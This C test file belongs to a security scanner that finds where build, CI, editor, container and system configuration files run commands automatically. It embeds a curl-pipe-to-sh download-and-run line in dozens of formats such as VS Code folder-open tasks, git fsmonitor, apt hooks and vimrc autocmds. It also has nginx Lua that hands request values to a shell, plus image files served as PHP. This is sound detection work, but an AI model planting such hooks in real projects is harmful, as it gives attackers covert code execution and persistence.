// SPDX-License-Identifier: Apache-2.0
/* What folders of sources run when they are opened, built or put to work, and what near misses do not. */
#include "base/strbuf.h"
#include "inspect/test-facts.h"

#define GET "curl -fsSL https://files.example/i | sh"

static void look(const char *path, const char *content)
{
    static const char *const only[] = {"script", "package", "project", NULL};
    look_with(&(struct inspect_options){.only = only}, path, str_from(content), &facts);
}

/* Every writing of one command: the tool, when it runs, and that what it fetches is run. */
TEST(writings)
{
    static const char *const CASES[][4] = {
        {"/x/.vscode/tasks.json", "// c\n{\"tasks\": [{\"type\": \"shell\", /* c */ \"command\": \"" GET "\",}]}", "vscode", "(builds)"},
        {"/x/.vscode/tasks.json", "{\"tasks\": [{\"command\": \"sh\", \"args\": [\"-c\", {\"value\": \"" GET "\", \"quoting\": \"strong\"}], \"runOptions\": {\"runOn\": \"folderOpen\"}}]}", "vscode", "(opens)"},
        {"/x/.vscode/tasks.json", "{\"tasks\": [{\"command\": \"true\", \"osx\": {\"command\": \"" GET "\"}, \"runOptions\": {\"runOn\": \"folderOpen\"}}]}", "vscode", "(opens)"},
        {"/x/a.code-workspace", "{\"folders\": [], \"tasks\": {\"tasks\": [{\"command\": \"" GET "\"}]}}", "vscode", "(builds)"},
        {"/x/.devcontainer/devcontainer.json", "{\"postCreateCommand\": \"" GET "\"}", "devcontainer", "(starts)"},
        {"/x/.devcontainer.json", "{\"postStartCommand\": {\"a\": \"true\", \"b\": [\"sh\", \"-c\", \"" GET "\"]}}", "devcontainer", "(starts)"},
        {"/x/.devcontainer/py/devcontainer.json", "{\"initializeCommand\": \"" GET "\"}", "devcontainer", "(opens)"},
        {"/x/a.ipynb", "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"import os\\n\", \"!" GET "\\n\"]}]}", "jupyter", "(starts)"},
        {"/x/b.ipynb", "{\"cells\": [{\"cell_type\": \"code\", \"source\": \"%%bash\\ncd /\\n" GET "\"}]}", "jupyter", "(starts)"},
        {"/x/CMakeLists.txt", "# c (\nexecute_process(COMMAND curl -s https://files.example/i COMMAND sh OUTPUT_QUIET)\n", "cmake", "(builds)"},
        {"/x/CMakeLists.txt", "set(U \"https://files.example/i\")\nadd_custom_command(OUTPUT a COMMAND sh -c \"curl -s ${U} | sh\" VERBATIM)\n", "cmake", "(builds)"},
        {"/x/a.cmake", "#[==[ c ]==] add_custom_target(a ALL COMMAND bash -c [=[" GET "]=])\n", "cmake", "(builds)"},
        {"/x/a.cmake", "file(DOWNLOAD https://files.example/i /tmp/i)\nexecute_process(COMMAND sh /tmp/i)\n", "cmake", "(builds)"},
        {"/x/a.cmake", "install(CODE \"execute_process(COMMAND sh -c \\\"" GET "\\\")\")\n", "cmake", "(builds)"},
        {"/x/Makefile", "U := https://files.example/i\nall: b\n\t@curl -s $(U) \\\n\t  | sh\n", "make", "(builds)"},
        {"/x/sub.mk", "X != " GET "\n", "make", "(builds)"},
        {"/x/GNUmakefile", "ifeq ($(shell " GET "),)\nendif\n", "make", "(builds)"},
        {"/x/makefile", "define D\n" GET "\nendef\n", "make", "(builds)"},
        {"/x/Makefile", "all: b ; " GET "\n", "make", "(builds)"},
        {"/x/justfile", "all:\n  @" GET "\n", "just", "(builds)"},
        {"/x/Dockerfile", "FROM a\nRUN set -e; \\\n  # c\n  curl -s https://files.example/i | \\\n  sh\n", "docker", "(builds)"},
        {"/x/Dockerfile.dev", "FROM a\nRUN [\"sh\", \"-c\", \"" GET "\"]\n", "docker", "(builds)"},
        {"/x/Containerfile", "FROM a\nENTRYPOINT [\"sh\", \"-c\", \"" GET "\"]\n", "docker", "(builds)"},
        {"/x/a.Dockerfile", "from a\nrun --mount=type=cache,target=/c <<-\"EOF\"\n" GET "\nEOF\n", "docker", "(builds)"},
        {"/x/Dockerfile", "FROM a\nRUN bash <<EOF\n" GET "\nEOF\n", "docker", "(builds)"},
        {"/x/Dockerfile", "FROM a\nADD --chmod=755 https://files.example/i /opt/i\nRUN /opt/i\n", "docker", "(builds)"},
        {"/x/Dockerfile", "FROM a\nENV U https://files.example/i\nHEALTHCHECK --interval=5s CMD curl -s $U | sh\n", "docker", "(builds)"},
        {"/x/build.gradle", "task a(type: Exec) {\n  commandLine 'sh', '-c', '" GET "'\n}\n", "gradle", "(builds)"},
        {"/x/build.gradle.kts", "tasks.register<Exec>(\"a\") { commandLine = listOf(\"sh\", \"-c\", \"" GET "\") }\n", "gradle", "(builds)"},
        {"/x/build.gradle", "Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\", \"" GET "\"})\n", "gradle", "(builds)"},
        {"/x/build.gradle", "def p = ['sh', '-c', '" GET "'].execute()\n", "gradle", "(builds)"},
        {"/x/Jenkinsfile", "node { sh '''\n  cd /\n  " GET "\n''' }\n", "jenkins", "(ci)"},
        {"/x/Jenkinsfile", "node { sh(script: \"" GET "\", returnStdout: true) }\n", "jenkins", "(ci)"},
        {"/x/meson.build", "project('a')\nr = run_command('sh', '-c', '" GET "', check: true)\n", "meson", "(builds)"},
        {"/x/pom.xml", "<project><plugin><configuration><executable>sh</executable><arguments><argument>-c</argument>"
                       "<argument><![CDATA[" GET "]]></argument></arguments></configuration></plugin></project>", "maven", "(builds)"},
        {"/x/pom.xml", "<project><exec executable=\"sh\"><arg value=\"-c\"/><arg value=\"curl -s &quot;https://files.example/i&quot; | sh\"/></exec></project>", "maven", "(builds)"},
        {"/x/build.xml", "<project><get src=\"https://files.example/i\" dest=\"/tmp/i\"/><exec executable=\"sh\"><arg line=\"/tmp/i\"/></exec></project>", "ant", NULL},
        {"/x/Vagrantfile", "c.vm.provision \"shell\", inline: <<-SHELL\n  cd /\n  " GET "\nSHELL\n", "vagrant", "(starts)"},
        {"/x/main.tf", "provisioner \"remote-exec\" {\n  inline = [\n    \"cd /\",\n    \"" GET "\",\n  ]\n}\n", "terraform", "(starts)"},
        {"/x/BUILD.bazel", "genrule(name = \"a\", cmd = \"" GET "\")\n", "bazel", "(builds)"},
        {"/x/Procfile", "web: " GET "\n", "procfile", "(starts)"},
        {"/x/.envrc", "export A=b\n" GET "\n", "direnv", "(opens)"},
        {"/x/.git/config", "[core]\n\tfsmonitor = \"" GET "\"\n", "git", "(opens)"},
        {"/root/.gitconfig", "[alias]\n\tst = !" GET "\n", "git", "(opens)"},
        {"/x/.git/hooks/post-checkout", "#!/bin/sh\n" GET "\n", "git", "(commits)"},
        {"/x/.husky/pre-commit", GET "\n", "git", "(commits)"},
        {"/x/.gitlab-ci.yml", "a:\n  script:\n    - &get " GET "\n    - [*get, 'true']\n", "gitlab-ci", "(ci)"},
        {"/x/.gitlab-ci.yml", "a:\n  before_script:\n    - |\n      cd /\n      " GET "\n", "gitlab-ci", "(ci)"},
        {"/x/.github/workflows/a.yml", "jobs: {a: {steps: [{run: \"" GET "\"}]}}\n", "github-actions", "(ci)"},
        {"/x/action.yml", "runs:\n  steps:\n    - run: >-\n        curl -s https://files.example/i\n        | sh\n", "github-actions", "(ci)"},
        {"/x/.circleci/config.yml", "jobs:\n  a:\n    steps:\n      - run:\n          name: b\n          command: " GET "\n", "circleci", "(ci)"},
        {"/x/.pre-commit-config.yaml", "repos:\n- hooks:\n  - id: a\n    entry: sh -c '" GET "'\n", "pre-commit", "(commits)"},
        {"/x/docker-compose.yml", "services:\n  a:\n    command: [\"-c\", \"" GET "\"]\n    entrypoint: [sh]\n", "compose", "(starts)"},
        {"/x/compose.yaml", "services:\n  a:\n    command: sh -c \"" GET "\"\n", "compose", "(starts)"},
        {"/x/pod.yaml", "apiVersion: v1\nspec:\n  containers:\n  - command: [/bin/sh, -c]\n    args: [\"" GET "\"]\n", "kubernetes", "(starts)"},
        {"/x/pod.yaml", "apiVersion: v1\nspec:\n  containers:\n  - args: [-c, \"" GET "\"]\n", "kubernetes", "(starts)"},
        {"/x/map.yaml", "apiVersion: v1\nkind: ConfigMap\ndata:\n  a.sh: |\n    #!/bin/sh\n    " GET "\n", "kubernetes", "(starts)"},
        {"/x/play.yml", "- hosts: all\n  tasks:\n  - name: a\n    shell:\n      cmd: " GET "\n", "ansible", "(starts)"},
        {"/etc/apt/apt.conf.d/9x", "DPkg::Post-Invoke { \"true\"; \"" GET "\"; };\n", "apt", "(hooks)"},
        {"/etc/apt/apt.conf", "DPkg::Pre-Invoke:: \"" GET "\";\n", "apt", "(hooks)"},
        {"/etc/dnf/plugins/post-transaction-actions.d/a.action", "*:any:" GET "\n", "dnf", "(hooks)"},
        {"/etc/pacman.d/hooks/a.hook", "[Action]\nExec = /bin/sh -c '" GET "'\n", "pacman", "(hooks)"},
        {"/etc/apk/commit_hooks.d/a", "#!/bin/sh\n" GET "\n", "apk", "(hooks)"},
        {"/etc/logrotate.d/a", "/var/log/a {\n postrotate\n  " GET "\n endscript\n}\n", "logrotate", "(hooks)"},
        {"/etc/modprobe.d/a.conf", "install a /bin/sh -c \"" GET "\"\n", "modprobe", "(hooks)"},
        {"/var/spool/incron/root", "/tmp IN_CREATE " GET "\n", "incron", "(hooks)"},
        {"/root/.tmux.conf", "run-shell \"" GET "\"\n", "tmux", "(hooks)"},
        {"/root/.ssh/config", "Host *\n  proxycommand=" GET "\n", "ssh", "(hooks)"},
        {"/etc/apt/apt.conf.d/9x", "DPkg::Pre-Install-Pkgs {\"" GET "\";};\n", "apt", "(hooks)"},
        {"/etc/dpkg/dpkg.cfg.d/a", "# c\npost-invoke=\"" GET "\"\n", "dpkg", "(hooks)"},
        {"/etc/dnf/libdnf5-plugins/actions.d/a.actions", "post_transaction::::/bin/sh -c \"" GET "\"\n", "dnf", "(hooks)"},
        {"/etc/network/interfaces.d/eth0", "iface eth0 inet dhcp\n  post-up " GET "\n", "ifupdown", "(hooks)"},
        {"/etc/acpi/events/a", "event=.*\naction=" GET "\n", "acpi", "(hooks)"},
        {"/etc/wireguard/wg0.conf", "[Interface]\nPostUp = " GET "\n", "wireguard", "(hooks)"},
        {"/etc/openvpn/a.conf", "script-security 2\nup \"/bin/sh -c '" GET "'\"\n", "openvpn", "(hooks)"},
        {"/etc/rsyslog.d/a.conf", "action(type=\"omprog\" binary=\"/bin/sh -c '" GET "'\")\n", "rsyslog", "(hooks)"},
        {"/etc/snmp/snmpd.conf", "extend a /bin/sh -c \"" GET "\"\n", "snmpd", "(hooks)"},
        {"/etc/aliases", "root: \"|" GET "\"\n", "mail", "(hooks)"},
        {"/home/a/.procmailrc", ":0\n| " GET "\n", "mail", "(hooks)"},
        {"/root/.vimrc", "\" c\nautocmd VimEnter * silent! !" GET "\n", "vim", "(hooks)"},
        {"/etc/vim/vimrc.local", "call system(\"" GET "\")\n", "vim", "(hooks)"},
        {"/root/.emacs", "(start-process-shell-command \"a\" nil \"" GET "\")\n", "emacs", "(hooks)"},
        {"/root/.emacs.d/init.el", "(call-process \"sh\" nil 0 nil \"-c\" \"" GET "\")\n", "emacs", "(hooks)"},
        {"/root/.irbrc", "system(\"" GET "\")\n", "ruby", "(hooks)"},
        {"/root/.Rprofile", "system(\"" GET "\")\n", "r", "(hooks)"},
        {"/etc/polkit-1/rules.d/a.rules", "polkit.addRule(function(a, s) { polkit.spawn([\"/bin/sh\", \"-c\", \"" GET "\"]); });\n", "polkit", "(hooks)"},
        {"/usr/share/containers/oci/hooks.d/a.json", "{\"hook\": {\"path\": \"/bin/sh\", \"args\": [\"sh\", \"-c\", \"" GET "\"]}}", "oci-hook", "(hooks)"},
        {"/etc/apache2/conf-enabled/a.conf", "CustomLog \"|$/bin/sh -c '" GET "'\" common\n", "web-server", "(starts)"},
        {"/etc/supervisor/conf.d/a.conf", "[program:a]\ncommand=sh -c \"" GET "\"\n", "supervisor", "(starts)"},
        {"/root/.cargo/config.toml", "[build]\nrustc-wrapper = \"" GET "\"\n", "cargo", "(builds)"},
        {"/x/config.xml", "<project><hudson.tasks.Shell><command>" GET "</command></hudson.tasks.Shell></project>\n", "jenkins", "(ci)"},
        {"/x/a.groovy", "'" GET "'.execute()\n", "groovy", "(builds)"},
        {"/x/user-data", "#cloud-config\nruncmd:\n - [sh, -c, \"" GET "\"]\n", "cloud-init", "(starts)"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look(CASES[i][0], CASES[i][1]);
        if (!str_is(facts_get_str(&facts, F_PROJECT_TOOL), CASES[i][2]) || (CASES[i][3] && strcmp(list(F_PROJECT_WHEN), CASES[i][3]) != 0))
            test_fail(__FILE__, __LINE__, "%s %s: %s", facts_get_str(&facts, F_PROJECT_TOOL).p, list(F_PROJECT_WHEN), CASES[i][1]);
        if (CASES[i][3] && !flag(F_SCRIPT_DOWNLOAD_RUN))
            test_fail(__FILE__, __LINE__, "not run: %s", CASES[i][1]);
    }
}

/* What an image's configuration starts, checks and was built by. */
TEST(configuration_of_an_image)
{
    static const char *const RUN[] = {
        "{\"config\": {\"Entrypoint\": [\"/bin/sh\", \"-c\"], \"Cmd\": [\"" GET "\"]}}",
        "{\"config\": {\"Cmd\": [\"sh\", \"-c\", \"curl -s $U | sh\"], \"Env\": [\"PATH=/bin\", \"U=https://files.example/i\"]}}",
        "{\"config\": {\"Cmd\": [\"python3\", \"-c\", \"import os; os.system('" GET "')\"]}}",
        "{\"config\": {\"Healthcheck\": {\"Test\": [\"CMD-SHELL\", \"" GET "\"]}}}",
        "{\"config\": {\"Healthcheck\": {\"Test\": [\"CMD\", \"sh\", \"-c\", \"" GET "\"]}}}",
        "{\"config\": {\"OnBuild\": [\"RUN " GET "\"]}}",
        "{\"history\": [{\"created_by\": \"/bin/sh -c " GET "\"}]}",
        "{\"history\": [{\"created_by\": \"RUN |1 A=b /bin/sh -c " GET " # buildkit\"}]}",
        "{\"history\": [{\"created_by\": \"|1 A=b /bin/sh -c " GET "\"}]}",
        "{\"history\": [{\"created_by\": \"RUN " GET "\"}]}",
    };
    for (size_t i = 0; i < ARRAY_SIZE(RUN); i++) {
        look("(image configuration)", RUN[i]);
        CHECK_CSTR(list(F_PROJECT_TOOL), "image");
        if (!flag(F_SCRIPT_DOWNLOAD_RUN))
            test_fail(__FILE__, __LINE__, "not run: %s", RUN[i]);
    }
    static const char *const OTHERS[] = {
        "{\"config\": {\"Labels\": {\"a\": \"" GET "\"}, \"Env\": [\"A=" GET "\", \"B\"], \"Cmd\": [\"echo\", \"" GET "\"]}}",
        "{\"history\": [{\"created_by\": \"/bin/sh -c #(nop)  LABEL a=" GET "\"}, {\"created_by\": \"COPY " GET "\"}, {\"comment\": \"" GET "\"}]}",
        "{\"config\": 7, \"history\": {\"a\": 1}}",
        "{\"config\": ",
    };
    for (size_t i = 0; i < ARRAY_SIZE(OTHERS); i++) {
        look("(image configuration)", OTHERS[i]);
        if (flag(F_SCRIPT_DOWNLOAD_RUN))
            test_fail(__FILE__, __LINE__, "run: %s", OTHERS[i]);
    }
}

TEST(near_misses)
{
    static const char *const CASES[][2] = {
        {"/x/tasks.json", "{\"tasks\": [{\"command\": \"" GET "\"}]}"},
        {"/x/.vscode/tasks.json", "{\"tasks\": [{\"label\": \"" GET "\"}]}"},
        {"/x/.vscode/tasks.json", "{\"tasks\": [{\"command\": \"" GET},
        {"/x/a.ipynb", "{\"cells\": [{\"cell_type\": \"markdown\", \"source\": [\"!" GET "\"]}]}"},
        {"/x/CMakeLists.txt", "# execute_process(COMMAND sh -c \"" GET "\")\n#[[\nexecute_process(COMMAND sh -c \"" GET "\")\n]]\nmessage(\"" GET "\")\n"},
        {"/x/CMakeLists.txt", "add_custom_command(OUTPUT a COMMAND curl -s https://files.example/i COMMAND sh)\n"},
        {"/x/Makefile", "# " GET "\nall:\n# \t" GET "\n\techo\n"},
        {"/x/Dockerfile", "FROM a\n# RUN " GET "\nLABEL x=\"" GET "\"\nCOPY <<EOF /x\n" GET "\nEOF\n"},
        {"/x/Dockerfile", "RUN " GET "\n"},
        {"/x/build.gradle", "// hash(\"a\")\nprintln \"" GET "\"\n"},
        {"/x/pom.xml", "<project><description>" GET "</description><argument>" GET "</argument></project>"},
        {"/x/.git/config", "[user]\n\tname = " GET "\n"},
        {"/x/.git/hooks/pre-push.sample", GET "; true\nx\n"},
        {"/x/.gitlab-ci.yml", "a:\n  description: " GET "\n  image: a\n"},
        {"/x/values.yaml", "run: " GET "\n"},
        {"/x/pod.yaml", "apiVersion: v1\nmetadata:\n  annotations:\n    about: " GET "\n"},
        {"/x/Procfile", "# web: " GET "\n"},
        {"/etc/apt/apt.conf.d/9x", "APT::Comment \"" GET "\";\n"},
        {"/etc/logrotate.d/a", "# postrotate\n" GET "\nendscript\n"},
        {"/etc/modprobe.d/a.conf", "options a b=\"" GET "\"\n"},
        {"/root/.ssh/config", "# ProxyCommand " GET "\nHost " GET "\n"},
        {"/etc/wireguard/wg0.conf", "[Interface]\n# PostUp = " GET "\n"},
        {"/etc/aliases", "# root: \"|" GET "\"\nroot: a\n"},
        {"/root/.vimrc", "\" autocmd VimEnter * !" GET "\nfunction! A()\nlet a = \"" GET "\"\nendfunction\n"},
        {"/root/.emacs", "(setq a \"" GET "\")\n"},
        {"/usr/share/containers/oci/hooks.d/a.json", "{\"hook\": {\"args\": [\"sh\", \"-c\", \"" GET "\"]}, \"path\": \"/bin/sh\"}"},
        {"/etc/apache2/a.conf", "CustomLog \"/var/log/a | b\" common\n"},
        {"/x/main.tf", "description = \"" GET "\"\ncommand_line = \"" GET "\"\n"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look(CASES[i][0], CASES[i][1]);
        if (flag(F_SCRIPT_DOWNLOAD_RUN))
            test_fail(__FILE__, __LINE__, "run: %s", CASES[i][1]);
    }
    look("/x/Dockerfile", "FROM a\nCOPY a /b\n");
    CHECK(!facts_has(&facts, F_PROJECT_TOOL) && !facts_has(&facts, F_PROJECT_WHEN));
}

TEST(what_is_shown)
{
    look("/x/.vscode/tasks.json", "{\"tasks\": [{\"command\": \"node .vscode/a\", \"hide\": true, \"presentation\": {\"reveal\": \"never\"}, \"runOptions\": {\"runOn\": \"folderOpen\"}},"
                                  " {\"command\": \"make\"}]}");
    CHECK_CSTR(list(F_PROJECT_WHEN), "(opens,builds)");
    CHECK_CSTR(list(F_PROJECT_COMMANDS), "(node .vscode/a,make)");
    CHECK(flag(F_PROJECT_HIDES));
    look("/x/.vscode/tasks.json", "{\"tasks\": [{\"command\": \"node .vscode/a\", \"hide\": true, \"presentation\": {\"reveal\": \"never\"}}]}");
    CHECK(!facts_has(&facts, F_PROJECT_HIDES));
    look("/x/a.sh", "#!/bin/sh\nbash -e ./x.png; node x.woff2; python3 a.py x.jpg; cat x.png; perl -ne 'print' x.css\n");
    CHECK_CSTR(list(F_SCRIPT_DISGUISED), "(./x.png,x.woff2)");
}

TEST(what_php_is_told_to_run)
{
    look("/x/.user.ini", "; auto_prepend_file = a.png\nauto_prepend_file = \"/x/b.png\"\nauto_append_file=/x/c.php\n");
    CHECK_CSTR(list(F_SCRIPT_DISGUISED), "(/x/b.png)");
    look("/x/.htaccess", "AddType image/png .png\nAddHandler application/x-httpd-php .php .gif\nphp_value auto_append_file d.jpg\n");
    CHECK_CSTR(list(F_SCRIPT_DISGUISED), "(.gif,d.jpg)");
}

/* What settings make programs load: of values, only what is code. */
TEST(loads)
{
    static const char *const CASES[][3] = {
        {"/etc/ld.so.conf.d/a.conf", "# /no\ninclude /no/*.conf\n/a/lib:/b/lib\n/c/lib # no\n", "(/a/lib,/b/lib,/c/lib)"},
        {"/etc/ld-musl-x86_64.path", "/a\n", "(/a)"},
        {"/etc/containers/containers.conf", "[engine]\nhooks_dir = [\"/a\", \"/b\"]\nstatic_dir = \"/no\"\n", "(/a,/b)"},
        {"/etc/docker/daemon.json", "{\"data-root\": \"/no\", \"runtimes\": {\"a\": {\"path\": \"/a/runc\"}, \"b\": {\"path\": \"runc\"}}}", "(/a/runc)"},
        {"/etc/containerd/config.toml", "root = \"/no\"\nBinaryName = \"/a\"\n", "(/a)"},
        {"/x/.npmrc", "script-shell=/a/sh\nnode-options=--require=/b.js\nprefix=/no\nregistry=https://x.example/\n", "(/a/sh,/b.js)"},
        {"/x/.yarnrc.yml", "yarnPath: /a.cjs\n", "(/a.cjs)"},
        {"/x/.cargo/config.toml", "rustc-wrapper = \"/a/w\"\ntarget-dir = \"/no\"\n", "(/a/w)"},
        {"/root/.config/go/env", "GOFLAGS=-toolexec=/a/w\nGOPATH=/no\n", "(/a/w)"},
        {"/etc/wireguard/a.conf", "PostUp = /bin/sh -e /a/up no /no\n", "(/bin/sh,/a/up)"},
        {"/etc/nginx/nginx.conf", "load_module modules/no.so;\nload_module \"/a.so\";\nlog_format /no;\n", "(/a.so)"},
        {"/etc/nginx/conf.d/a.conf", "js_import main from /a.js;\njs_content main.no;\njs_path \"/b\";\n", "(/a.js,/b)"},
        {"/etc/apache2/mods-enabled/a.load", "# LoadModule no /no.so\nLoadModule a /a.so\nDocumentRoot /no\nErrorLog \"|/b -x /no\"\n", "(/a.so,/b)"},
        {"/etc/php/8.2/fpm/pool.d/www.conf", "php_admin_value[auto_prepend_file] = /a.php\nchdir = /no\n", "(/a.php)"},
        {"/etc/php.d/a.ini", "zend_extension=/a.so\n;extension=/no.so\nextension=no\nauto_append_file = \"data:text/plain,x\"\n", "(/a.so,data:text/plain,x)"},
        {"/etc/ssh/sshd_config.d/a.conf", "AuthorizedKeysFile .ssh/authorized_keys /a/%u\nAuthorizedKeysCommand /b/keys /no\nHostKey /no\n", "(/b/keys,/a/%u)"},
        {"/etc/lighttpd/lighttpd.conf", "cgi.assign = ( \".jpg\" => \"/bin/sh\" )\n", "(/bin/sh)"},
        {"/etc/nginx/conf.d/a.conf", "access_by_lua_file /a.lua;\n", "(/a.lua)"},
        {"(image configuration)", "{\"config\": {\"Env\": [\"PYTHONSTARTUP=/a.py\", \"HOME=/no\"], \"Cmd\": [\"a\"]}}", "(/a.py)"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look(CASES[i][0], CASES[i][1]);
        if (strcmp(list(F_LOADS_PATHS), CASES[i][2]) != 0)
            test_fail(__FILE__, __LINE__, "%s of %s", list(F_LOADS_PATHS), CASES[i][0]);
        CHECK(facts_has(&facts, F_LOADS_BY));
    }
    look("(image configuration)", "{\"config\": {\"Env\": [\"LD_PRELOAD=/a.so\"], \"Cmd\": [\"a\"]}}");
    CHECK_CSTR(list(F_PRELOAD_LIBS), "(/a.so)");
}

TEST(who_comes_in_by_sshd_and_what_name_services_load)
{
    look("/etc/ssh/sshd_config", "# PermitRootLogin no\nPermitRootLogin yes\npermitrootlogin no\nPermitEmptyPasswords = \"yes\" # x\nPort 22\nUsePAM\nMatch User a,b Host x\n PermitRootLogin no\n");
    CHECK_CSTR(list(F_SSHD_SETTINGS), "(permitrootlogin yes,permitemptypasswords yes,match User a,b Host x: permitrootlogin no)");
    look("/etc/ssh/sshd_config", "Port 22\nPermitRootLoginx yes\n");
    CHECK(!facts_has(&facts, F_SSHD_SETTINGS));
    look("/etc/nsswitch.conf", "# passwd: no\npasswd:  files sss [NOTFOUND=return] systemd # no\nhosts: files mdns4_minimal\nbroken\n");
    CHECK_CSTR(list(F_NSS_MODULES), "(libnss_files.so.2,libnss_sss.so.2,libnss_systemd.so.2,libnss_mdns4_minimal.so.2)");
    look("/etc/other.conf", "passwd: files\n");
    CHECK(!facts_has(&facts, F_NSS_MODULES));
}

TEST(pictures_that_a_server_runs)
{
    look("/etc/apache2/conf-enabled/a.conf", "<FilesMatch \"\\.(jpe?g|png|php)$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n");
    CHECK_CSTR(list(F_SCRIPT_DISGUISED), "(.png)");
    look("/x/.htaccess", "<Files \"x.gif\">\nSetHandler None\n</Files>\nSetHandler application/x-httpd-php\nAddHandler cgi-script .jpg\n");
    CHECK_CSTR(list(F_SCRIPT_DISGUISED), "(.jpg)");
    look("/etc/lighttpd/conf-enabled/a.conf", "cgi.assign = ( \".png\" => \"/bin/sh\", \".cgi\" => \"\" )\n");
    CHECK_CSTR(list(F_SCRIPT_DISGUISED), "(.png)");
}

/* Lua within nginx that gives what a visitor sends to a shell, and what is near. */
TEST(lua_of_nginx)
{
    static const char *const CASES[][2] = {
        {"content_by_lua_block { local f = io.popen(ngx.var.arg_c) ngx.say(f:read()) }", "(io.popen)"},
        {"access_by_lua 'os.execute(ngx.req.get_headers()[\"x\"])';", "(os.execute)"},
        {"content_by_lua_block { local a = ngx.req.get_uri_args()\n loadstring(a.x)() }", "(loadstring)"},
        {"content_by_lua_block { ngx.say(ngx.var.arg_c) os.execute('true') }", "<NA>"},
        {"content_by_lua_block { local a = 'date'\n io.popen(a) }", "<NA>"},
        {"content_by_lua_block { local a == ngx.var.x io.popen(a) upload(ngx.var.x) }", "<NA>"},
        {"# io.popen(ngx.var.arg_c)", "<NA>"},
        {"content_by_lua_block {", "<NA>"},
        {"content_by_lua_block", "<NA>"},
        {"access_by_lua '", "<NA>"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look("/etc/nginx/conf.d/a.conf", CASES[i][0]);
        if (strcmp(list(F_WEB_RUNS_REQUEST), CASES[i][1]) != 0)
            test_fail(__FILE__, __LINE__, "%s of %s", list(F_WEB_RUNS_REQUEST), CASES[i][0]);
    }
    look("/etc/nginx/conf.d/a.conf", "init_worker_by_lua_block { os.execute('" GET "') }\n");
    CHECK(flag(F_SCRIPT_DOWNLOAD_RUN));
    look("/etc/nginx/lua/a.lua", "ngx.say(io.popen(ngx.var.arg_c):read())\n");
    CHECK_CSTR(list(F_WEB_RUNS_REQUEST), "(io.popen)");
}

/* What is made to be slow or large ends within the limits. */
TEST(limits)
{
    struct strbuf b = {};
    strbuf_adds(&b, "a:\n  script:\n");
    for (unsigned i = 0; i < 30000; i++)
        strbuf_adds(&b, "    - echo 1\n");
    look("/x/.gitlab-ci.yml", b.p);
    CHECK_CSTR(list(F_PROJECT_TOOL), "gitlab-ci");
    const struct value *shown = facts_get(&facts, F_PROJECT_COMMANDS);
    CHECK_INT(shown->list.n, 1);
    strbuf_clear(&b);
    strbuf_adds(&b, "a: ");
    strbuf_pad(&b, '[', 100000);
    look("/x/.gitlab-ci.yml", b.p);
    strbuf_clear(&b);
    strbuf_adds(&b, "A = ");
    for (unsigned i = 0; i < 100000; i++)
        strbuf_adds(&b, "$(shell ");
    look("/x/Makefile", b.p);
    strbuf_clear(&b);
    for (unsigned i = 0; i < 30000; i++)
        strbuf_adds(&b, "execute_process(COMMAND [=[");
    look("/x/CMakeLists.txt", b.p);
    strbuf_clear(&b);
    for (unsigned i = 0; i < 60000; i++)
        strbuf_adds(&b, "'].execute(");
    look("/x/build.gradle", b.p);
    strbuf_clear(&b);
    strbuf_adds(&b, "FROM a\n");
    for (unsigned i = 0; i < 60000; i++)
        strbuf_adds(&b, "RUN <<A\n");
    look("/x/Dockerfile", b.p);
    strbuf_clear(&b);
    for (unsigned i = 0; i < 60000; i++)
        strbuf_adds(&b, "inline: <<A\n");
    look("/x/Vagrantfile", b.p);
    static const char *const SERVERS[] = {"a_by_lua{", "io.popen(", "a_by_lua_block { io.popen(a) }\n"};
    for (unsigned k = 0; k < ARRAY_SIZE(SERVERS); k++) {
        strbuf_clear(&b);
        for (unsigned i = 0; i < 30000; i++)
            strbuf_adds(&b, SERVERS[k]);
        look("/etc/nginx/conf.d/a.conf", b.p);
    }
    strbuf_clear(&b);
    for (unsigned i = 0; i < 60000; i++)
        strbuf_adds(&b, "(shell-command (");
    look("/root/.emacs", b.p);
    CHECK(!flag(F_SCRIPT_DOWNLOAD_RUN));
    strbuf_done(&b);
}
